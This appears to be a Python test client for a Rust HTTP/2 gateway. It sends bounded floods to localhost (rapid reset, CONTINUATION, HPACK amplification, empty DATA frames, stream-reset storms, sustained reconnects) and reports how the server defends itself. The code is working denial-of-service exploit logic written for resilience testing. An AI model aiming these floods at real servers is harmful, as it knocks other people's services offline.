#!/usr/bin/env python3
"""HTTP/2 flood client for tests/h2_floods.rs (h2c, prior knowledge).

One mode per flood; the frames are built with hyperframe and hpack (h2's state machine
would refuse most of them), and the server's frames are read with hyperframe on a second
thread. Every loop is bounded by --count and --seconds. Prints one JSON object:

  sent        flood units sent (streams, or frames on the one stream)
  goaway      the GOAWAY error code received, or null
  debug       the GOAWAY debug data
  goaway_s    seconds from the flood's start to the GOAWAY
  closed_s    seconds from the flood's start to the server closing the connection
              (EOF or reset on read), or null if it stayed open
  stalled     a send blocked for --stall seconds (the server stopped reading)
  rst         RST_STREAM frames received, and their codes (code -> count)
  headers     HEADERS frames received (answers)

Modes:
  rapid-reset   HEADERS (END_STREAM) + RST_STREAM(CANCEL), a new stream each time
  continuation  HEADERS without END_HEADERS, then CONTINUATION frames without end
  hpack         one large dynamic-table entry, then one header block of --refs indexed
                references to it on each new stream (--refs 16000: one block that
                decodes to ~64 MB; smaller: a block per stream just over the limit)
  empty-data    HEADERS (POST, no END_STREAM), then zero-length DATA frames on it
  reset-storm   frames that make the server reset the stream itself, a new stream each
                time; --how: wu-overflow (WINDOW_UPDATE overflowing the stream window),
                wu0 (WINDOW_UPDATE with increment 0 on the stream), content-length
                (DATA past the stream's content-length), data-closed (DATA on a stream
                the client already half-closed)
  --reconnect   any flood, sustained: a new connection each time the gateway closes one,
                for --seconds; prints {"connections", "goaways" (code -> count),
                "left_open", "closed_max", "first" (the first connection's object)}
  good          a well-behaved client (the h2 package): one GET at a time for --seconds;
                prints {"requests", "ok", "max_latency", "statuses", "error"}
"""

import argparse
import json
import socket
import sys
import threading
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def block(headers):
    """A header block that leaves the server's HPACK table alone (no indexing)."""
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(n, v) for n, v in headers])


def request_headers(args, method="GET", extra=()):
    return [
        (":method", method),
        (":path", args.path),
        (":scheme", "http"),
        (":authority", "127.0.0.1"),
        *extra,
    ]


class Conn:
    """A raw h2c connection: sends serialized frames, reads the server's on a thread."""

    def __init__(self, args):
        self.sock = socket.create_connection(("127.0.0.1", args.port), timeout=args.stall)
        self.lock = threading.Lock()
        self.t0 = time.monotonic()
        self.goaway = None
        self.debug = ""
        self.goaway_s = None
        self.closed_s = None
        self.rst = {}
        self.headers = 0
        self.done = threading.Event()
        self.settled = threading.Event()
        settings = SettingsFrame(0)
        self.send(PREFACE + settings.serialize())
        self.reader = threading.Thread(target=self.read_loop, daemon=True)
        self.reader.start()
        # The server's SETTINGS acknowledged before the flood, so that no ACK of ours lands
        # in the middle of it (between HEADERS and CONTINUATION: a protocol error).
        self.settled.wait(2.0)
        self.t0 = time.monotonic()

    def send(self, data):
        with self.lock:
            self.sock.sendall(data)

    def now(self):
        return round(time.monotonic() - self.t0, 4)

    def read_exact(self, n):
        while len(self.buf) < n:
            try:
                d = self.sock.recv(65536)
            except socket.timeout:
                # The send timeout applies to reads too: the connection is just quiet.
                if self.done.is_set():
                    raise EOFError
                continue
            if not d:
                raise EOFError
            self.buf += d

    def read_loop(self):
        self.buf = b""
        try:
            while True:
                self.read_exact(9)
                frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
                self.read_exact(9 + length)
                frame.parse_body(memoryview(self.buf[9 : 9 + length]))
                self.buf = self.buf[9 + length :]
                if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                    self.send(SettingsFrame(0, flags=["ACK"]).serialize())
                    self.settled.set()
                elif isinstance(frame, GoAwayFrame):
                    if self.goaway is None:
                        self.goaway_s = self.now()
                    self.goaway = frame.error_code
                    self.debug = frame.additional_data.decode("latin-1")
                elif isinstance(frame, RstStreamFrame):
                    k = str(frame.error_code)
                    self.rst[k] = self.rst.get(k, 0) + 1
                elif isinstance(frame, HeadersFrame):
                    self.headers += 1
        except (EOFError, OSError):
            pass
        except Exception as e:  # a frame hyperframe cannot parse
            self.debug += f" (client: {e!r})"
        if self.closed_s is None and not self.done.is_set():
            self.closed_s = self.now()
        self.done.set()

    def finish(self, sent, stalled):
        # Give the server a moment to close after the last frame (bounded).
        self.done.wait(2.0)
        self.done.set()
        out = {
            "sent": sent,
            "goaway": self.goaway,
            "debug": self.debug,
            "goaway_s": self.goaway_s,
            "closed_s": self.closed_s,
            "stalled": stalled,
            "rst": self.rst,
            "headers": self.headers,
        }
        try:
            self.sock.close()
        except OSError:
            pass
        return out


def flood(args, conn, units):
    """Sends what `units(i, sid)` returns (bytes), `args.batch` at a time, until the server
    closes, --count units went out or --seconds passed."""
    sent, stalled = 0, False
    deadline = conn.t0 + args.seconds
    sid = 1
    try:
        while sent < args.count and not conn.done.is_set() and time.monotonic() < deadline:
            chunk = []
            for _ in range(min(args.batch, args.count - sent)):
                chunk.append(units(sent, sid))
                sent += 1
                sid += 2
            conn.send(b"".join(chunk))
    except socket.timeout:
        stalled = True
    except OSError:
        pass
    return conn.finish(sent, stalled)


def frame(f):
    return f.serialize()


def headers_frame(sid, data, end_stream, end_headers=True):
    flags = []
    if end_stream:
        flags.append("END_STREAM")
    if end_headers:
        flags.append("END_HEADERS")
    return frame(HeadersFrame(sid, data=data, flags=flags))


def rapid_reset(args, conn):
    blk = block(request_headers(args))

    def unit(_, sid):
        return headers_frame(sid, blk, True) + frame(RstStreamFrame(sid, error_code=8))

    return flood(args, conn, unit)


def continuation(args, conn):
    first = headers_frame(1, block(request_headers(args)), True, end_headers=False)
    field = block([("x-c", "c")])
    conn.send(first)

    def unit(_, __):
        return frame(ContinuationFrame(1, data=field))

    return flood(args, conn, unit)


def hpack_amplification(args, conn):
    # An entry as large as the default 4,096-byte table takes: 32 + 3 + 4,000 bytes.
    # Literal with incremental indexing, new name (0x40), no Huffman coding.
    value = b"v" * 4000
    big = bytes([0x40, 3]) + b"x-a" + bytes([0x7F] + encode_rest(len(value), 7)) + value
    refs = b"\xbe" * args.refs  # index 62: the newest dynamic-table entry
    base = block(request_headers(args))
    max_frame = 16384

    def unit(i, sid):
        data = base + (big if i == 0 else b"") + refs
        if len(data) <= max_frame:
            return headers_frame(sid, data, True)
        out = [headers_frame(sid, data[:max_frame], True, end_headers=False)]
        rest = data[max_frame:]
        while rest:
            piece, rest = rest[:max_frame], rest[max_frame:]
            flags = [] if rest else ["END_HEADERS"]
            out.append(frame(ContinuationFrame(sid, data=piece, flags=flags)))
        return b"".join(out)

    return flood(args, conn, unit)


def encode_rest(value, prefix_bits):
    """The continuation bytes of an HPACK integer whose prefix is all ones."""
    value -= (1 << prefix_bits) - 1
    out = []
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return out


def empty_data(args, conn):
    conn.send(headers_frame(1, block(request_headers(args, "POST")), False))

    def unit(_, __):
        return frame(DataFrame(1, data=b""))

    return flood(args, conn, unit)


def reset_storm(args, conn):
    how = args.how
    get = block(request_headers(args))
    post = block(request_headers(args, "POST", [("content-length", "1")]))

    def unit(_, sid):
        if how == "wu-overflow":
            w = WindowUpdateFrame(sid, window_increment=0x7FFFFFFF)
            return headers_frame(sid, get, True) + frame(w)
        if how == "wu0":
            w = WindowUpdateFrame(sid, window_increment=1)
            w.window_increment = 0
            return headers_frame(sid, get, True) + frame(w)
        if how == "content-length":
            return headers_frame(sid, post, False) + frame(
                DataFrame(sid, data=b"ab", flags=["END_STREAM"])
            )
        if how == "data-closed":
            return headers_frame(sid, get, True) + frame(DataFrame(sid, data=b"x"))
        raise SystemExit(f"unknown --how {how}")

    return flood(args, conn, unit)


def good(args):
    import h2.config
    import h2.connection
    import h2.events

    out = {"requests": 0, "ok": 0, "max_latency": 0.0, "statuses": {}, "error": None}
    try:
        s = socket.create_connection(("127.0.0.1", args.port), timeout=5)
        c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        c.initiate_connection()
        s.sendall(c.data_to_send())
        print("ready", file=sys.stderr, flush=True)
        deadline = time.monotonic() + args.seconds
        while time.monotonic() < deadline:
            sid = c.get_next_available_stream_id()
            t = time.monotonic()
            c.send_headers(sid, request_headers(args), end_stream=True)
            s.sendall(c.data_to_send())
            out["requests"] += 1
            status, ended = None, False
            while not ended:
                d = s.recv(65536)
                if not d:
                    raise EOFError("the gateway closed the good connection")
                for ev in c.receive_data(d):
                    if isinstance(ev, h2.events.ResponseReceived) and ev.stream_id == sid:
                        status = dict(ev.headers).get(b":status", b"").decode()
                    elif isinstance(ev, h2.events.DataReceived):
                        c.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                    elif isinstance(ev, h2.events.StreamEnded) and ev.stream_id == sid:
                        ended = True
                    elif isinstance(ev, h2.events.StreamReset) and ev.stream_id == sid:
                        ended = True
                        status = f"reset {ev.error_code}"
                s.sendall(c.data_to_send())
            latency = time.monotonic() - t
            out["max_latency"] = round(max(out["max_latency"], latency), 4)
            out["statuses"][status] = out["statuses"].get(status, 0) + 1
            if status == "200":
                out["ok"] += 1
            time.sleep(args.interval)
    except Exception as e:
        out["error"] = repr(e)
    print(json.dumps(out), flush=True)


def main():
    p = argparse.ArgumentParser()
    p.add_argument("mode")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--path", default="/api/flood")
    p.add_argument("--count", type=int, default=100000)
    p.add_argument("--seconds", type=float, default=3.0)
    p.add_argument("--batch", type=int, default=64)
    p.add_argument("--stall", type=float, default=2.0)
    p.add_argument("--refs", type=int, default=16000)
    p.add_argument("--how", default="wu-overflow")
    p.add_argument("--interval", type=float, default=0.05)
    p.add_argument("--reconnect", action="store_true")
    args = p.parse_args()
    if args.mode == "good":
        return good(args)
    modes = {
        "rapid-reset": rapid_reset,
        "continuation": continuation,
        "hpack": hpack_amplification,
        "empty-data": empty_data,
        "reset-storm": reset_storm,
    }
    if not args.reconnect:
        print(json.dumps(modes[args.mode](args, Conn(args))), flush=True)
        return
    # A sustained attack: a new connection each time the gateway closes one, until
    # --seconds (or 1,000 connections).
    deadline = time.monotonic() + args.seconds
    runs = []
    while time.monotonic() < deadline and len(runs) < 1000:
        args.seconds = max(deadline - time.monotonic(), 0.01)
        try:
            runs.append(modes[args.mode](args, Conn(args)))
        except OSError as e:
            runs.append({"goaway": None, "closed_s": None, "error": repr(e)})
    codes = {}
    for r in runs:
        k = str(r["goaway"])
        codes[k] = codes.get(k, 0) + 1
    closed = [r["closed_s"] for r in runs if r["closed_s"] is not None]
    out = {
        "connections": len(runs),
        "goaways": codes,
        "left_open": len(runs) - len(closed),
        "closed_max": max(closed, default=None),
        "first": runs[0] if runs else None,
    }
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    main()
